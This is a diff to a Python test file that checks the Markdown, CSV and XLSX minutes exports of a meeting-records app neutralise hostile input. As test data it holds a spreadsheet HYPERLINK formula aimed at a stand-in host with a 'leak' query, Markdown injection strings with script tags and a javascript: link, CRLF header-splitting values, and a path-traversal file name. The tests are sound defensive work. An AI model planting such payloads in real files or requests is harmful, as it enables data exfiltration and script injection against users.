@@ -5,16 +5,31 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import replace
 
 import pytest
+from flask.testing import FlaskClient
+from markdown_it import MarkdownIt
 from openpyxl import load_workbook
+from sqlalchemy import text
+from test_meetings import decide, project, record_sample  # noqa: F401 - project is a fixture
 from test_minutes import sample_minutes
 
 from fitgap.domain.files.cells import neutralise, starts_formula
-from fitgap.domain.meetings.minutes import Minutes, MinutesTown, to_csv, to_xlsx
+from fitgap.domain.meetings.minutes import (
+    Minutes,
+    MinutesTown,
+    Outcome,
+    file_name,
+    to_csv,
+    to_markdown,
+    to_xlsx,
+)
 from fitgap.store import audit as audit_queries
 from fitgap.store.db import Database
+
+from conftest import moderate
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak","開く")'
 
@@ -82,3 +97,73 @@ def test_the_audit_csv_neutralises_targets_and_addresses(db: Database) -> None:
         data = audit_queries.to_csv(session=session, filters=audit_queries.AuditFilter())
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     assert rows[-1][3] == "'=1+1" and rows[-1][5] == "'＠SUM(A1)"
+
+
+# --- Markdown minutes ------------------------------------------------------------------------
+
+HOSTILE = "x\r# 見出し\r<!--"
+
+
+def rendered(markdown: str) -> str:
+    """The Markdown as CommonMark with raw HTML allowed, as a careless viewer shows it."""
+    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
+
+
+def test_user_text_cannot_add_blocks_tags_or_comments_to_the_markdown() -> None:
+    minutes = sample_minutes()
+    meeting = minutes.meetings[0]
+    first, second = meeting.decisions
+    verdicts = (replace(first.verdicts[0], note="a\r\n- 偽の項目\n> 引用\r\n<script>x</script>"),)
+    decision = replace(first, summary=HOSTILE, verdicts=verdicts + first.verdicts[1:])
+    meeting = replace(
+        meeting,
+        title="第1回\n# 偽の見出し",
+        area_name="住民\r\n記録",
+        decisions=(decision, replace(second, function_name="[罠](javascript:alert(1))")),
+    )
+    towns = (MinutesTown("ishii", "1. 石井町"), *minutes.towns[1:])
+    markdown = to_markdown(replace(minutes, meetings=(meeting,), towns=towns))
+    assert "\r" not in markdown
+    html = rendered(markdown)
+    headings = re.findall(r"<h(\d)>(.*?)</h\1>", html)
+    assert [level for level, _ in headings] == ["1", "2", "3", "3", "4", "4"]
+    assert "<!--" not in html and "<script>" not in html and "<blockquote>" not in html
+    assert "<ol" not in html and 'href="javascript' not in html
+    assert "<li>要旨：x # 見出し &lt;!--</li>" in html  # shown as typed
+    assert "- 要旨：x \\# 見出し \\<!--" in markdown.splitlines()
+    assert "## 令和7年4月1日（2025-04-01） 住民 記録 第1回 \\# 偽の見出し" in markdown
+
+
+@pytest.mark.usefixtures("project")
+def test_a_line_break_in_an_area_name_does_not_break_the_download(
+    db: Database, client: FlaskClient
+) -> None:
+    moderate(client)
+    meeting = record_sample(db)
+    decide(db, meeting, "0010002", Outcome.POSTPONED, summary=HOSTILE)
+    with db.engine.begin() as connection:
+        connection.execute(text("UPDATE area SET name = :name"), {"name": "住民\r\n記録\r"})
+        connection.execute(text("UPDATE meeting SET title = :t"), {"t": "第1回\n# 偽の見出し"})
+    for kind in ("md", "csv", "xlsx"):
+        response = client.get(f"/meetings/{meeting}/minutes.{kind}")
+        assert response.status_code == 200, kind
+        disposition = response.headers["Content-Disposition"]
+        assert "\r" not in disposition and "\n" not in disposition
+        assert "%E4%BD%8F%E6%B0%91_%E8%A8%98%E9%8C%B2" in disposition  # 住民_記録
+    markdown = client.get(f"/meetings/{meeting}/minutes.md").get_data(as_text=True)
+    assert "\r" not in markdown and "- 要旨：x \\# 見出し \\<!--" in markdown.splitlines()
+    assert not any(line.startswith("# 偽の見出し") for line in markdown.splitlines())
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("議事録-住民記録-令和7年4月1日", "議事録-住民記録-令和7年4月1日"),
+        ("住民\r\n記録", "住民_記録"),
+        ('../a/b\\c:d*e?"f<g>h|i\x00', "a_b_c_d_e_f_g_h_i"),
+        ("\n", "minutes"),
+        (" 記録\r", "記録"),
+    ],
+)
+def test_a_download_gets_a_safe_file_name(text: str, expected: str) -> None:
+    assert file_name(text) == expected
